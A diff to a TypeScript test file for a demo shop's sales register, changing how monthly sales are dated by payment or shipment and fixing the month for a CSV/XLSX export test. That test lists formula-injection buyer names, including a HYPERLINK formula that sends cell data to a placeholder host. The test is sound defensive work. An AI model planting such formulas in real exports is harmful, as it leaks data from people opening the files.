@@ -20,16 +20,25 @@ beforeAll(async () => {
 });
 afterAll(() => t.dispose());
 
+/**
+ * The month's sales by their tax point: the payment day; for an order shipped without a recorded payment
+ * (cash on delivery on its way), the shipment day once it is delivered or a week old at the month's end.
+ */
 function expectedSales(month: string) {
   const p = monthPeriod(month);
   const rows = t.core.sqlite
     .prepare(
-      `SELECT id, bought_at, total_to_pay_grosze AS total,
+      `SELECT id, paid_at, status, total_to_pay_grosze AS total, (SELECT MIN(dispatched_at) FROM shipments s WHERE s.order_id = o.id) AS shipped,
               (SELECT COUNT(DISTINCT CAST(vat_rate AS REAL)) FROM order_lines l WHERE l.order_id = o.id) AS rates
-         FROM orders o WHERE status <> 'cancelled' AND allegro_status = 'READY_FOR_PROCESSING' AND bought_at >= ? AND bought_at < ?`,
+         FROM orders o WHERE status <> 'cancelled' AND allegro_status = 'READY_FOR_PROCESSING'`,
     )
-    .all(p.sqlFrom, p.sqlTo) as Array<{ id: number; bought_at: string; total: number; rates: number }>;
-  return rows.filter((r) => (localDate(r.bought_at) ?? '').startsWith(month));
+    .all() as Array<{ id: number; paid_at: string | null; status: string; shipped: string | null; total: number; rates: number }>;
+  const weekBeforeEnd = new Date(Date.parse(`${p.lastDay}T00:00:00Z`) - 7 * 86_400_000).toISOString().slice(0, 10);
+  return rows.filter((r) => {
+    if (r.paid_at !== null) return (localDate(r.paid_at) ?? '').startsWith(month);
+    const shipped = localDate(r.shipped);
+    return shipped !== null && shipped.startsWith(month) && (r.status === 'delivered' || shipped <= weekBeforeEnd);
+  });
 }
 
 function expectedRefunds(month: string) {
@@ -99,6 +108,8 @@ describe('sales register of the demo shop', () => {
   });
 
   it('keeps formula-looking buyer names as text in CSV and XLSX', async () => {
+    // The running month: a month that has ended is closed by its first export and never changes again.
+    const MONTH = '2026-11';
     const hostile = ['=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")', '+48 600 100 200', '@SUM(A1:A9)', '-2+3 Kowalski', '\tTab Nowak'];
     const targets = expectedSales(MONTH).slice(0, hostile.length);
     const update = t.core.sqlite.prepare('UPDATE orders SET buyer_name = ?, invoice_required = 0 WHERE id = ?');
